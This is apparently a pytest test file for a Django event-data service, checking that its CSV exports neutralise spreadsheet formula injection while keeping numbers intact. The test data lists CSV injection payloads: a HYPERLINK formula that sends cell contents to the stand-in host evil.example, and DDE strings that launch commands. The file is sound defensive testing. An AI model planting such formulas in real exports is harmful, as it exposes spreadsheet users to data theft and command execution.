"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection),
on real imported rows and on injected ones, and leave numbers alone."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import Client

from tests.factories import EventFactory, OrganisationFactory
from vigil import csvsafe
from vigil.events.services import import_events

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([value, "plain", 5, -13.5, "-13.5", "+1e3", "#hashtag"])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["'" + value, "plain", "5", "-13.5", "-13.5", "+1e3", "#hashtag"]


@pytest.mark.django_db
def test_the_events_csv_export_neutralises_injected_cells_and_keeps_real_rows(
    reference_geography: None, shared_data: Path
) -> None:
    # Real rows: Mexico's longitudes are negative numbers and must stay numbers.
    import_events(
        importer_key="ucdp-ged", path=shared_data / "ucdp_ged/ged241_mexico_1989-2023.csv.gz"
    )
    # Its own id: the factory's numbered ids could collide with the real rows'.
    EventFactory(
        source_id="injected-1", description=FORMULAS[0], location="@SUM(A1:A9)", actor1="-1+1"
    )

    def export(country: str) -> list[dict[str, str]]:
        response = Client().get("/api/v1/events", {"format": "csv", "country": country,
                                                   "limit": 1000})  # fmt: skip
        return list(csv.DictReader(io.StringIO(response.content.decode())))[1:]  # HXL row

    [mine] = export("NGA")
    assert (mine["description"], mine["location"], mine["actor1"]) == (
        "'" + FORMULAS[0],
        "'@SUM(A1:A9)",
        "'-1+1",
    )
    real = export("MEX")
    assert len(real) == 1000
    assert all(float(row["longitude"]) < 0 for row in real)  # numbers, not "'-99.1"
    assert not any(cell.startswith(csvsafe.TRIGGERS) and not csvsafe.NUMBER.fullmatch(cell)
                   for row in real for cell in row.values() if cell)  # fmt: skip


@pytest.mark.django_db
def test_the_registry_csv_neutralises_an_organisation_name(reference_geography: None) -> None:
    OrganisationFactory(slug="evil", name='=HYPERLINK("http://evil.example","Open")')
    response = Client().get("/actors/registry.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[0] for row in rows[2:]]  # after the header and the HXL row
    assert "'" + '=HYPERLINK("http://evil.example","Open")' in names
